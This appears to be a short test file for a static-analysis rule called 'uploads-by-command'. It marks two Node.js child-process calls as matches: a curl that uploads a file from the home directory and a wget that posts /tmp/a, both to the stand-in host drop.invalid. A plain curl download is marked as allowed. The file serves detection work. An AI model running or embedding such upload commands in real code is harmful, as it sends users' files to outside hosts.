// ruleid: uploads-by-command
spawnSync("curl", ["-s", "-F", `f=@${home}/${name}`, "http://drop.invalid/t"]);
// ruleid: uploads-by-command
execSync("wget -q --post-file=/tmp/a http://drop.invalid/t");
// ok: uploads-by-command
spawnSync("curl", ["-fsSL", "-o", file, "http://files.invalid/t"]);
